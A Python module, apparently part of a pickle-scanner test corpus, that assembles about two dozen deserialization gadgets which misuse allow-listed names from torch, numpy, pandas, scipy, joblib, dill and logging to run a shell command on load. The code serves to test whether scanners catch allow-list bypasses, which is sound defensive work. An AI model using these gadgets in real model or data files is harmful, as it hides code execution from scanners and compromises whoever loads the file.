"""Holes of the allow-lists that were closed by reading: each way really runs its payload with the framework installed.

The names themselves are known; what is done with them is what no file of their framework does. The payload is named
in each, so these show that the way works and that it is said; `tests/inspections/test_pickle_made.py` has the same
ways with known names alone, which must be findings by themselves.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from .asm import Build, Call, Get, Global, Memo, New, Raw, Then, encode
from .pickle_opcodes import NAMED, SYSTEM
from .pickle_torch import legacy_torch
from .sample import Kit, Sample, gadget

G, C = Global, Call
_LAYER = G("torch.nn.modules.linear.Identity")


def samples() -> list[Sample]:
    """All of this module."""
    return [
        gadget(f"hole-{name}", f"a known name, used as its framework never does: {name.replace('-', ' ')}", build,
               calls=(*NAMED, *calls), needs=(needs,) if needs else (), **options)
        for name, (needs, calls, options, build) in _HOLES.items()
    ]  # fmt: skip


def _quiet(kit: Kit) -> Call:
    """A callable that runs the payload whatever arguments it is given."""
    return C(G("functools.partial"), G("copy._reconstruct"), None, None, SYSTEM, (kit.shell,))


def _object(kit: Kit, *methods: str) -> Call:
    """An object whose class has the payload as its methods."""
    return C(C(G("builtins.type"), "X", (), dict.fromkeys(methods, _quiet(kit))))


def _then_restored(change: Any, kit: Kit) -> Any:
    """Change the class, then restore an object of it: the payload's command is its state."""
    return Then(change, Build(New(_LAYER), kit.shell))


def _given(target: Any, opcode: bytes, *values: Any) -> Raw:
    """An opcode that changes what lies below its operands: APPEND, APPENDS, ADDITEMS, SETITEM."""
    return Raw(encode(target, 4) + b"".join(encode(value, 4) for value in values) + opcode)


_STORAGE = G("torch.storage._load_from_bytes")
_RESULT = New(G("scipy.optimize._optimize.OptimizeResult"))
_PLAIN = New(G("argparse.Namespace"))


_HOLES: dict[str, tuple[str, tuple[str, ...], dict[str, Any], Callable[[Kit], Any]]] = {
    "class-of-an-object": ("", (), {}, lambda k: Then(
        Build(C(G("builtins.type"), New(G("argparse.Namespace"))), (None, {"__setstate__": SYSTEM})),
        Build(New(G("argparse.Namespace")), k.shell))),
    "class-through-torch": ("torch", (), {}, lambda k: _then_restored(
        C(G("torch._tensor._rebuild_from_type_v2"), G("builtins.type"), G("builtins.type"), (New(_LAYER),), {"__setstate__": SYSTEM}), k)),
    "attributes-of-a-class": ("torch", (), {}, lambda k: _then_restored(
        C(G("torch._utils._set_obj_state"), _LAYER, {"__setstate__": SYSTEM}), k)),
    "type-through-torch": ("torch", (), {}, lambda k: C(
        G("torch._tensor._rebuild_from_type_v2"), SYSTEM, G("builtins.int"), (k.shell,), None)),
    "logger": ("", (), {"loader": "pickle-log"}, lambda k: Build(C(G("logging.getLogger"), "root"), {"filters": [_quiet(k)]})),
    "logger-handler": ("", (), {"loader": "pickle-log"}, lambda k: Build(C(G("logging.getLogger"), "root"), {"handlers": [
        Build(New(G("logging.Handler")), {"level": 0, "filters": [_quiet(k)]})]})),
    "array-of-an-object": ("numpy", (), {}, lambda k: C(G("numpy.matrix"), _object(k, "__len__", "__getitem__"))),
    "arrays-of-objects": ("pandas", (), {}, lambda k: C(G("pandas.core.series.Series"), _object(k, "__iter__"))),
    "index-of-an-object": ("pandas", (), {}, lambda k: C(G("pandas.core.indexes.base.Index"), _object(k, "__iter__"))),
    "call-through-dill": ("dill", (), {}, lambda k: C(G("dill._dill._create_array"), SYSTEM, (k.shell,), None, None)),
    "flags-of-an-object": ("", (), {}, lambda k: C(G("_operator.or_"), _object(k, "__or__"), 1)),
    "method-of-any-object": ("", (), {}, lambda k: C(G("builtins.getattr"), _object(k, "__getattr__"), "forward")),
    "method-by-its-name": ("torch", (), {}, lambda k: Then(
        Memo(0, Build(New(_LAYER), {"forward": _quiet(k)})), C(C(G("builtins.getattr"), Get(0), "forward")))),
    "constructor-of-a-cache": ("joblib", ("joblib.memory.Memory",), {}, lambda k: C(G("joblib.memory.Memory"), k.path)),
    "constructor-kept": ("joblib", ("joblib.memory.Memory", "functools.partial"), {}, lambda k: C(
        G("builtins.next"), C(G("builtins.iter"), C(G("functools.partial"), G("joblib.memory.Memory"), k.path), None))),
    "state-of-a-distribution": ("scipy", (), {}, lambda k: Build(New(G("scipy.stats._continuous_distns.norm_gen")), {
        "_parse_arg_template": f"import os\nos.system({k.shell!r})\n", "_ctor_param": {}})),
    "newobj-of-a-function": ("", (), {}, lambda k: C(G("copyreg.__newobj__"), C(
        G("builtins.type"), "X", (), {"__new__": _quiet(k)}))),
    "union-of-an-object": ("", (), {}, lambda k: C(G("functools.reduce"), G("_operator.or_"), (_object(k, "__or__"), 1))),
    "state-as-method": ("torch", (), {}, lambda k: Build(Build(_PLAIN, {"__setstate__": _STORAGE}), legacy_torch(k))),
    "slots-as-method": ("torch", (), {}, lambda k: Build(Build(New(G("types.SimpleNamespace")), (None, {"__setstate__": _STORAGE})), legacy_torch(k))),
    "append-as-method": ("torch", (), {}, lambda k: _given(Build(_PLAIN, {"append": _STORAGE}), b"a", legacy_torch(k))),
    "add-as-method": ("torch", (), {}, lambda k: Raw(
        encode(Build(_PLAIN, {"add": _STORAGE}), 4) + b"(" + encode(legacy_torch(k), 4) + b"\x90")),
    "item-as-method": ("scipy", (), {}, lambda k: Build(_given(_RESULT, b"s", "__setstate__", _STORAGE), legacy_torch(k))),
    "padded-state-as-method": ("torch", (), {}, lambda k: Then(*[Build(_PLAIN, {"a": n}) for n in range(9)], _given(
        Build(_PLAIN, {**{f"p{n}": n for n in range(99)}, "append": _STORAGE}), b"a", legacy_torch(k)))),
    "class-by-slots": ("scipy", (), {}, lambda k: Build(Build(_PLAIN, (None, {
        "__class__": G("scipy.stats._continuous_distns.norm_gen")})), {
        "_parse_arg_template": f"import os\nos.system({k.shell!r})\n", "_ctor_param": {}})),
    "iterator-of-a-call": ("", (), {}, lambda k: C(G("builtins.list"), C(G("builtins.iter"), _quiet(k), None))),
}  # fmt: skip
